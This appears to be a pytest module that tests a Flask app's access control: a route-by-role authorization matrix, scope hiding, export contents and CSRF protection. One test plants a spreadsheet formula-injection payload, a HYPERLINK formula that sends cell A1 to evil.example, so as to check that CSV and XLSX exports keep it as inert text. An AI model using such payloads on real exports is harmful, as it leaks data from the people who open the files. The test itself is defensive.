"""Every route × anonymous and each role × own scope / other scope → the expected outcome.

The rows live in tests/authz_matrix.py; a route without a row fails the first test here. Requests are
made with a session cookie (as a browser would) against an app with CSRF checks off: CSRF is proven
separately (test_csrf_on_every_state_change), so here a 400 from a missing token cannot hide a 403.
"""
from __future__ import annotations

import csv
import io
from collections import Counter
from urllib.parse import urlsplit

import pytest
from flask import url_for
from openpyxl import load_workbook

from tests.conftest import IsolatedClient
from tests.authz_matrix import ALL_SEEING, LOGGED_IN, ROLES, ROUTES, Route, build_world, expected
from webapp import create_app
from webapp.extensions import db
from webapp.models import Finding, User

IGNORED_METHODS = {"HEAD", "OPTIONS"}


def route_keys(app) -> set[tuple[str, str]]:
    return {(rule.endpoint, method) for rule in app.url_map.iter_rules()
            for method in rule.methods - IGNORED_METHODS}


def test_every_route_has_a_row(app):
    rows = Counter((r.endpoint, r.method) for r in ROUTES)
    assert [key for key, n in rows.items() if n > 1] == [], "duplicate rows"
    missing = sorted(route_keys(app) - set(rows))
    stale = sorted(set(rows) - route_keys(app))
    assert missing == [], f"routes without a row in tests/authz_matrix.py: {missing}"
    assert stale == [], f"rows for routes that no longer exist: {stale}"


@pytest.fixture(scope="module")
def matrix_app(app):
    """The same database and photo store, with CSRF off (see the module docstring)."""
    return create_app({**{k: app.config[k] for k in ("SQLALCHEMY_DATABASE_URI", "SQLALCHEMY_ENGINE_OPTIONS",
                                                      "UPLOAD_DIR", "SERVER_NAME")},
                       "TESTING": True, "WTF_CSRF_ENABLED": False,
                       **{k: v for k, v in app.config.items() if k.startswith(("PHOTO_STORE", "S3_"))}})


_HASH: list[str] = []


@pytest.fixture
def world(app, matrix_app):
    with matrix_app.app_context():
        if not _HASH:
            from werkzeug.security import generate_password_hash
            _HASH.append(generate_password_hash("correct-horse-42"))
        built = build_world(_HASH[0])
        db.session.remove()
    return built


def client_for(matrix_app, world, role: str):
    # Requests run inside the test's app context; IsolatedClient gives each its own ``g`` (Flask-Login
    # caches the user there).
    matrix_app.test_client_class = IsolatedClient
    client = matrix_app.test_client()
    if role != "anonymous":
        with client.session_transaction() as session:
            session["_user_id"] = str(world.users[role])
            session["_fresh"] = True
    return client


def send(matrix_app, client, route: Route, world, scope: str, headers: dict | None = None):
    args = route.args(world, scope)
    with matrix_app.test_request_context():
        url = url_for(route.endpoint, **args)
    kwargs: dict = {"headers": dict(headers or {})}
    if route.data:
        kwargs["data"] = route.data(world)
    if route.json:
        kwargs["json"] = route.json(world)
    if route.raw:
        kwargs["data"], raw_headers = route.raw(world)
        kwargs["headers"].update(raw_headers)
    response = client.open(url, method=route.method, **kwargs)
    # Read streamed bodies (the exports) to the end: an unread stream keeps its database session,
    # and with it a transaction, open until garbage collection.
    response.get_data()
    response.close()
    return response, args, url


def outcome(response, route: Route, world, args) -> str:
    status = response.status_code
    location = urlsplit(response.headers.get("Location", "")).path
    if status == 401 or (300 <= status < 400 and location == "/login"):
        return "login"
    if status == 403:
        return "forbidden"
    if status == 404:
        return "hidden"
    if status >= 500:
        return f"error {status}"
    if route.effect is not None:
        db.session.expire_all()
        return "ok" if route.effect(world, args) else "refused"
    return "ok"


def cases(route: Route):
    scopes = ("own", "other") if route.scoped else ("own",)
    return [(role, scope) for role in ROLES for scope in scopes]


@pytest.mark.parametrize("route", ROUTES, ids=lambda r: f"{r.method} {r.endpoint}")
def test_route(matrix_app, world, route):
    wrong = []
    with matrix_app.app_context():
        for role, scope in cases(route):
            client = client_for(matrix_app, world, role)
            response, args, url = send(matrix_app, client, route, world, scope)
            got, want = outcome(response, route, world, args), expected(route, role, scope)
            if got != want:
                wrong.append(f"{role:>9} {scope:<5} {route.method} {url}: got {got} ({response.status_code}), "
                             f"want {want}")
            db.session.remove()
    assert not wrong, "\n" + "\n".join(wrong)


@pytest.mark.parametrize("route", [r for r in ROUTES if r.scoped], ids=lambda r: f"{r.method} {r.endpoint}")
def test_invisible_is_the_same_as_missing(matrix_app, world, route):
    """An id in another scope answers exactly as an id that does not exist: same status, same redirect."""
    with matrix_app.app_context():
        for role in LOGGED_IN:
            if role in ALL_SEEING:
                continue
            client = client_for(matrix_app, world, role)
            other, args, _ = send(matrix_app, client, route, world, "other")
            missing_args = {k: (_missing(v)) for k, v in args.items()}
            with matrix_app.test_request_context():
                url = url_for(route.endpoint, **missing_args)
            kwargs = {"data": route.data(world)} if route.data else {}
            if route.json:
                kwargs["json"] = route.json(world)
            missing = client.open(url, method=route.method, **kwargs)
            missing.get_data()
            missing.close()
            assert other.status_code == missing.status_code, (role, other.status_code, missing.status_code)
            assert _path(other) == _path(missing).replace(missing_args.get("finding_uuid", "\0"),
                                                          args.get("finding_uuid", "\0")), role
            if other.is_json:
                assert other.get_json()["error"]["code"] == missing.get_json()["error"]["code"]
            db.session.remove()


def _missing(value):
    if isinstance(value, int):
        return 987_654
    if isinstance(value, str) and len(value) == 36:
        return "00000000-0000-4000-8000-000000000000"
    return value


def _path(response) -> str:
    return urlsplit(response.headers.get("Location", "")).path


# --- exports: a role's download holds its own scope's findings and nothing else ------------------------

def _rows_text(response) -> str:
    if response.mimetype.endswith("csv"):
        return response.get_data(as_text=True)
    book = load_workbook(io.BytesIO(response.data), read_only=True)
    return "\n".join(str(cell) for sheet in book for row in sheet.iter_rows(values_only=True) for cell in row)


@pytest.mark.parametrize("endpoint", ["reports.findings_csv", "reports.findings_xlsx"])
@pytest.mark.parametrize("role", ["leader", "desk", "admin"])
def test_exports_hold_only_what_the_role_may_see(matrix_app, world, endpoint, role):
    with matrix_app.app_context():
        client = client_for(matrix_app, world, role)
        with matrix_app.test_request_context():
            url = url_for(endpoint, days=30)
        response = client.get(url)
        assert response.status_code == 200
        text = _rows_text(response)
        response.close()
        own_note, other_note = world.own_note, world.other_note
        assert own_note in text
        assert (other_note in text) == (role in ALL_SEEING), f"{role} export and the other street's finding"
        db.session.remove()


@pytest.mark.parametrize("endpoint", ["reports.findings_csv", "reports.findings_xlsx"])
def test_exports_are_not_a_formula_injection_vector(matrix_app, world, endpoint):
    """A note typed as =HYPERLINK(...) must stay text in the desk's spreadsheet, never a live formula."""
    with matrix_app.app_context():
        finding = db.session.scalar(db.select(Finding).where(Finding.uuid == world.own_finding))
        finding.note = '=HYPERLINK("https://evil.example/?"&A1,"点击")'
        db.session.commit()
        client = client_for(matrix_app, world, "desk")
        with matrix_app.test_request_context():
            url = url_for(endpoint, days=30)
        response = client.get(url)
        response.get_data()
        response.close()
        if endpoint.endswith("csv"):
            rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
            cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
            assert cells and all(not cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
        else:
            book = load_workbook(io.BytesIO(response.data))
            cells = [c for sheet in book for row in sheet.iter_rows() for c in row
                     if isinstance(c.value, str) and "HYPERLINK" in c.value]
            assert cells and all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
        db.session.remove()


# --- CSRF: every state change made with a session cookie needs the token; bearer tokens are exempt ----

STATE_CHANGING = [r for r in ROUTES if r.method in ("POST", "PUT", "PATCH", "DELETE")]


def _is_csrf_failure(response) -> bool:
    body = response.get_json(silent=True) if response.is_json else None
    if isinstance(body, dict) and isinstance(body.get("error"), dict):
        return response.status_code == 400 and body["error"]["code"] == "csrf_failed"
    return response.status_code == 400 and b"CSRF" in response.data


@pytest.mark.parametrize("route", STATE_CHANGING, ids=lambda r: f"{r.method} {r.endpoint}")
def test_csrf_on_every_state_change(app, matrix_app, world, route):
    """The real app (CSRF on): a logged-in session without the token is refused before the view runs;
    the same request with a bearer token (which a cross-site page cannot send) is not."""
    from webapp.auth.tokens import CSRF_EXEMPT_BLUEPRINTS, issue_token

    role = sorted(route.allow - {"anonymous"})[0] if route.allow - {"anonymous"} else "admin"
    app.test_client_class = IsolatedClient
    with app.app_context():
        client = app.test_client()
        with client.session_transaction() as session:
            session["_user_id"] = str(world.users[role])
            session["_fresh"] = True
        response, args, url = send(app, client, route, world, "own")
        exempt = route.endpoint.split(".")[0] in CSRF_EXEMPT_BLUEPRINTS
        assert _is_csrf_failure(response) != exempt, (url, response.status_code, response.data[:200])
        token = issue_token(db.session.get(User, world.users[role]), "csrf-test")
        db.session.commit()
        response, args, url = send(app, app.test_client(), route, world, "own",
                                   headers={"Authorization": f"Bearer {token}"})
        assert not _is_csrf_failure(response), (url, response.status_code)
        db.session.remove()
